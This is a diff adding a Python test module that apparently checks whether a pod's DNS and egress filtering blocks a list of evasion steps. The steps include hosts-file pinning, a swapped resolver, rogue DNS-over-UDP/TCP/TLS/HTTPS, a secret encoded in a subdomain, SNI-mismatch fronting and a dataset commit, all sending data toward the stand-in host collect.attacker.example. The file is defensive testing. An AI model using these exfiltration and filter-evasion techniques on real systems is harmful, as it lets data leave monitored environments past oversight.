@@ -1,0 +1,187 @@
+"""Ways around a control of names: what to do if a name may not be asked for, or an address is not open.
+
+Each step is a function without arguments that returns (outcome, why).
+"""
+
+import http.client
+import json
+import socket
+import ssl
+import struct
+from contextlib import contextmanager
+
+import dnswire
+from clients import AUTHORITY
+from pipeline import TIMEOUT
+
+BLOCKED, USELESS, REACHED = "blocked", "useless", "REACHED"
+METADATA = "169.254.169.254"
+# As in outside/internet.zone. An attacker brings such a list along.
+HUB, HUB_ADDRESS = "huggingface.co", "198.51.100.10"
+EDGE, EDGE_ADDRESS = "us.aws.cdn.hf.co", "198.51.100.11"
+OTHER_EDGE, OTHER_EDGE_ADDRESS = "eu-west-3.aws.cdn.hf.co", "198.51.100.12"
+PROVIDER, PROVIDER_ADDRESS = "api.openai.com", "198.51.100.20"
+COLLECTOR, COLLECTOR_ADDRESS = "collect.attacker.example", "203.0.113.66"
+PAGES = "pages.attacker.example"
+RESOLVER, RESOLVER_ADDRESS = "dns.resolver.example", "198.51.100.53"
+
+
+def outcome(act):
+    """What became of it: `act` returns (outcome, why), or fails."""
+    try:
+        return act()
+    except ConnectionRefusedError:
+        return REACHED, "nobody listens"
+    except OSError as failure:
+        return BLOCKED, str(failure) or type(failure).__name__
+
+
+def https(host, method, path, body=None, at=None, claim=None, headers=None, verify=True):
+    """A request to `host`, wherever its name leads, or to the address `at`. `claim`: the name in the handshake, if another.
+    Returns status and body."""
+    context = ssl.create_default_context(cafile=AUTHORITY) if verify else ssl._create_unverified_context()
+    with socket.create_connection((at or host, 443), timeout=TIMEOUT) as stream:
+        # Longer, for what is open may be slow.
+        stream.settimeout(5 * TIMEOUT)
+        connection = http.client.HTTPConnection(host)
+        connection.sock = context.wrap_socket(stream, server_hostname=claim or host)
+        connection.request(method, path, body=body, headers=headers or {})
+        answer = connection.getresponse()
+        return answer.status, answer.read()
+
+
+def asks(host, method="GET", path="/", body=None, **more):
+    def act():
+        status, text = https(host, method, path, body, **more)
+        taken = status < 400 or status in (401, 404)
+        return (REACHED if taken else USELESS), f"status {status}, {len(text)} bytes"
+
+    return lambda: outcome(act)
+
+
+@contextmanager
+def changed(path, text, whole=False):
+    """A file of the pod's own, for a while."""
+    with open(path, encoding="utf-8") as file:
+        before = file.read()
+    with open(path, "w", encoding="utf-8") as file:
+        file.write(text if whole else before + text)
+    try:
+        yield
+    finally:
+        with open(path, "w", encoding="utf-8") as file:
+            file.write(before)
+
+
+def pinned(name, address):
+    """The hosts file says where the name is; nobody is asked. Certificates do not matter to whoever pins."""
+
+    def step():
+        with changed("/etc/hosts", f"{address} {name}\n"):
+            return asks(name, "POST", "/", b"c2VjcmV0", verify=False)()
+
+    return step
+
+
+def answered(packet):
+    code, addresses = dnswire.read(packet)
+    if addresses:
+        return REACHED, f"answers {addresses[0]}"
+    return BLOCKED if code == 5 else USELESS, {0: "no such record", 3: "no such name", 5: "refused"}.get(code, f"code {code}")
+
+
+def datagram(address, port, name=COLLECTOR):
+    def act():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
+            stream.settimeout(TIMEOUT)
+            stream.connect((address, port))
+            stream.send(dnswire.query(name))
+            return answered(stream.recv(512))
+
+    return lambda: outcome(act)
+
+
+def over_tcp(address, port, tls=None):
+    def act():
+        with socket.create_connection((address, port), timeout=TIMEOUT) as plain:
+            context = ssl.create_default_context(cafile=AUTHORITY)
+            stream = context.wrap_socket(plain, server_hostname=tls) if tls else plain
+            packet = dnswire.query(COLLECTOR)
+            stream.sendall(struct.pack("!H", len(packet)) + packet)
+            with stream.makefile("rb") as file:
+                head = file.read(2)
+                if len(head) < 2:
+                    return BLOCKED, "closed without an answer"
+                return answered(file.read(struct.unpack("!H", head)[0]))
+
+    return lambda: outcome(act)
+
+
+def over_https():
+    def act():
+        kind = {"Content-Type": "application/dns-message"}
+        _, body = https(RESOLVER, "POST", "/dns-query", dnswire.query(COLLECTOR), at=RESOLVER_ADDRESS, headers=kind)
+        return answered(body)
+
+    return outcome(act)
+
+
+def resolved(name, then=None):
+    """The machine's own way to resolve; then, if there is an address, what to do with it."""
+
+    def act():
+        try:
+            address = socket.getaddrinfo(name, None, socket.AF_INET)[0][4][0]
+        except socket.gaierror as failure:
+            return BLOCKED, failure.strerror
+        return then(address) if then else (REACHED, f"leads to {address}")
+
+    return lambda: outcome(act)
+
+
+def swapped_resolver():
+    with changed("/etc/resolv.conf", f"nameserver {RESOLVER_ADDRESS}\noptions timeout:1 attempts:1\n", whole=True):
+        return resolved(COLLECTOR)()
+
+
+def opens(port):
+    def then(address):
+        with socket.create_connection((address, port), timeout=TIMEOUT):
+            return REACHED, f"leads to {address}, which is open"
+
+    return then
+
+
+def uploads():
+    lines = [
+        {"key": "header", "value": {"summary": "weights", "description": ""}},
+        {"key": "file", "value": {"path": "drop.b64", "encoding": "base64", "content": "c2VjcmV0"}},
+    ]
+    body = "\n".join(json.dumps(line) for line in lines)
+    kind = {"Content-Type": "application/x-ndjson", "Authorization": "Bearer hf_attackers"}
+    return asks(HUB, "POST", "/api/datasets/attacker/drop/commit/main", body, headers=kind)()
+
+
+VERBS = "what is done at an allowed host is not told apart yet"
+NAMES = "names of one address are not told apart yet"
+
+# (step, target, what to do, the limit if it is not closed yet)
+STEPS = [
+    ("address-never-resolved", f"{PROVIDER_ADDRESS} 443/TCP", asks(PROVIDER, path="/v1/models", at=PROVIDER_ADDRESS), ""),
+    ("address-that-another-pod-resolved", f"{OTHER_EDGE_ADDRESS} 443/TCP", asks(OTHER_EDGE, at=OTHER_EDGE_ADDRESS), ""),
+    ("name-not-allowed", COLLECTOR, resolved(COLLECTOR), ""),
+    ("secret-in-a-name", f"c2VjcmV0.{COLLECTOR}", resolved(f"c2VjcmV0.{COLLECTOR}"), ""),
+    ("allowed-name-pinned-elsewhere", f"{HUB} at {COLLECTOR_ADDRESS}", pinned(HUB, COLLECTOR_ADDRESS), ""),
+    ("denied-name-pinned-to-allowed", f"{COLLECTOR} at {HUB_ADDRESS}", pinned(COLLECTOR, HUB_ADDRESS), ""),
+    ("resolver-swapped", f"{RESOLVER_ADDRESS} in resolv.conf", swapped_resolver, ""),
+    ("resolver-of-its-own", f"{RESOLVER_ADDRESS} 53/UDP", datagram(RESOLVER_ADDRESS, 53), ""),
+    ("resolver-of-its-own", f"{RESOLVER_ADDRESS} 53/TCP", over_tcp(RESOLVER_ADDRESS, 53), ""),
+    ("resolver-over-tls", f"{RESOLVER_ADDRESS} 853/TCP", over_tcp(RESOLVER_ADDRESS, 853, tls=RESOLVER), ""),
+    ("resolver-over-https", f"{RESOLVER_ADDRESS} 443/TCP", over_https, ""),
+    ("resolver-on-another-port", f"{RESOLVER_ADDRESS} 5353/UDP", datagram(RESOLVER_ADDRESS, 5353), ""),
+    ("name-that-leads-to-metadata", "forgotten-1.us.aws.cdn.hf.co", resolved("forgotten-1.us.aws.cdn.hf.co", opens(80)), ""),
+    ("name-that-leads-to-a-pod", "forgotten-2.us.aws.cdn.hf.co", resolved("forgotten-2.us.aws.cdn.hf.co", opens(6333)), ""),
+    ("other-name-of-an-allowed-address", f"{PAGES} at {EDGE_ADDRESS}", pinned(PAGES, EDGE_ADDRESS), NAMES),
+    ("other-name-behind-an-allowed-one", f"{PAGES}, as {EDGE}", asks(PAGES, "POST", "/", b"c2VjcmV0", at=EDGE_ADDRESS, claim=EDGE), NAMES),
+    ("upload-to-the-allowed-hub", f"{HUB}, a commit", uploads, VERBS),
+]
